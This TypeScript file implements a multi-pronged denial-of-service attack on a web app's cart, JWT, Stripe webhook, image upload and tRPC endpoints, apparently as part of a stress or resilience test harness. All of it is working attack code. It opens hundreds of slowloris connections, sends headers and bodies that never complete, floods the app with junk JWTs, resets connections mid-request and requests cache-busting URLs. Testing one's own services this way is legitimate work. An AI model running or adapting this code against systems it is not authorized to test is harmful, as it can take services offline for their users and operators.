import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Client } from './client.ts'

export interface Target {
  host: string
  port: number
  /** The address that all of it comes from. */
  from: string
  client: Client
  tokens: string[]
  isOver(): boolean
}

/** Everything that one address does at once, until it is over. */
export async function attack(target: Target): Promise<void> {
  await Promise.all([
    ...crowd(150, () =>
      holdOpen(target, head('POST', '/jwt', ['Content-Length: 60000', json, bearer('x')]), '{'),
    ),
    ...crowd(100, (n) =>
      holdOpen(
        target,
        head('POST', '/carts', ['Content-Length: 60000', json, bearer(tokenOf(target, n))]),
        '{',
      ),
    ),
    ...crowd(80, () =>
      holdOpen(target, head('POST', '/webhooks/stripe', ['Content-Length: 250000', json]), '{'),
    ),
    ...crowd(40, (n) =>
      holdOpen(
        target,
        head('POST', '/images', ['Content-Length: 1400000', form, bearer(tokenOf(target, n))]),
        '-',
      ),
    ),
    ...crowd(20, () => holdOpen(target, head('POST', '/images', ['Content-Length: 1400000', form]), '-')),
    // Headers that never end.
    ...crowd(200, () => holdOpen(target, 'GET /approvedCourses HTTP/1.1\r\nHost: x\r\n', 'X-A: b\r\n')),
    ...crowd(4, () => sendJunkTokens(target)),
    ...crowd(2, () => sendBigForms(target)),
    ...crowd(2, () => breakConnections(target)),
    ...crowd(2, () => askForUnknownPages(target)),
  ])
}

const json = 'Content-Type: application/json'
const form = 'Content-Type: multipart/form-data; boundary=b'
const bearer = (token: string) => `Authorization: Bearer ${token}`
const tokenOf = ({ tokens }: Target, n: number) => tokens[n % tokens.length] ?? 'x'
const crowd = (size: number, act: (n: number) => Promise<void>) =>
  Array.from({ length: size }, (_, n) => act(n))

function head(method: string, path: string, headers: string[]): string {
  return [`${method} ${path} HTTP/1.1`, 'Host: storm', ...headers, '', ''].join('\r\n')
}

function dial({ host, port, from }: Target): Socket {
  const socket = connect({ host, port, localAddress: from })
  socket.on('error', () => {}).setMaxListeners(0)
  return socket
}

/** Sends a drop every second or two, and begins anew when the server has had enough. */
async function holdOpen(target: Target, start: string, drop: string) {
  await pause(Math.random() * 2000)
  while (!target.isOver()) {
    const socket = dial(target)
    socket.resume().write(start)
    while (!socket.destroyed && !socket.readableEnded && !target.isOver()) {
      await pause(1000 + Math.random() * 1000)
      if (socket.writable) socket.write(drop)
    }
    socket.destroy()
    await pause(500)
  }
}

const junk = () => {
  const part = () => randomBytes(24).toString('base64url')
  const header = Buffer.from('{"alg":"HS256","typ":"access+jwt"}').toString('base64url')
  return Math.random() < 0.5 ? part() : `${header}.${part()}.${part()}`
}

async function sendJunkTokens(target: Target) {
  const paths = ['/carts', '/trpc/student.cart.get', '/users', '/approvedCourses']
  for (let n = 0; !target.isOver(); n++) {
    await target.client.call('GET', paths[n % paths.length] ?? '/', { token: junk() })
    await pause(20)
  }
}

const types = [
  form,
  json,
  'Content-Type: application/x-www-form-urlencoded',
  'Content-Type: text/plain',
  'X-None: 1',
]
const paths = [
  '/trpc/student.cart.add',
  '/carts',
  '/images',
  '/webhooks/stripe',
  '/jwt',
  '/v1/payment_intents',
  '/nothing',
]
const mostOfOne = 4 * 1024 * 1024

/** Forms without an end, of every type, to every door. */
async function sendBigForms(target: Target) {
  const block = Buffer.alloc(64 * 1024, 'x')
  for (let n = 0; !target.isOver(); n++) {
    const [path = '', type = ''] = [paths[n % paths.length], types[n % types.length]]
    const socket = dial(target)
    socket.resume().write(head('POST', path, ['Content-Length: 700000000', type, bearer(tokenOf(target, n))]))
    for (let sent = 0; sent < mostOfOne && !socket.destroyed && socket.writable; sent += block.length) {
      if (!socket.write(block)) await Promise.race([drained(socket), pause(1000)])
    }
    await pause(50)
    socket.destroy()
  }
}

const drained = (socket: Socket) =>
  new Promise<void>((resolve) => socket.once('drain', resolve).once('close', resolve))

/** Connections that end by RST: at once, in the headers, in the body, while the response is produced. */
async function breakConnections(target: Target) {
  const starts = [
    '',
    'POST /carts HT',
    head('POST', '/carts', ['Content-Length: 100', json, bearer(tokenOf(target, 0))]),
    head('GET', '/approvedCourses', []),
    head('GET', '/classes', []),
  ]
  for (let n = 0; !target.isOver(); n++) {
    const socket = dial(target)
    socket.write(starts[n % starts.length] ?? '')
    await pause(5 + Math.random() * 20)
    socket.resetAndDestroy()
    await pause(20)
  }
}

/** Pages that have not been requested before. */
async function askForUnknownPages(target: Target) {
  const pages = [
    '/?x=',
    '/classes?q=',
    '/classes?utm_source=',
    '/share/home.png?',
    '/art/monogram/a.svg?name=',
    '/nothing/',
  ]
  for (let n = 0; !target.isOver(); n++) {
    const path = `${pages[n % pages.length]}${randomBytes(6).toString('hex')}`
    await target.client.call('GET', path, { headers: { accept: 'text/html' } })
    await pause(40)
  }
}
